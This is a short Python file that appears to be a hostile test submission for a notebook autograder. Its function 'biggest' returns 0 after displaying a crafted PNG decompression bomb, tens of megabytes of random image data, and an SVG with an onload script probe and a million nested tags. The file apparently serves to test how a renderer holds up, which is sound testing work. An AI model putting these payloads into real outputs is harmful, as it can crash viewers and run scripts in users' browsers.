# Shows an enormous picture, a picture that is no picture, and one that grows enormous when it is unpacked.
# points: 0..1
# %% answer: biggest
import base64
import os
import struct
import zlib

from IPython.display import Image, display


def biggest(numbers):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress(bytes(30000 * 1000), 9)
    bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 30000, 30000, 8, 0, 0, 0, 0))
    display(Image(bomb + chunk(b"IDAT", rows) + chunk(b"IEND", b"")))
    display({"image/png": base64.b64encode(os.urandom(3 * 10**7)).decode()}, raw=True)
    display({"image/svg+xml": "<svg onload='alert(1)'>" + "<g>" * 10**6}, raw=True)
    return 0
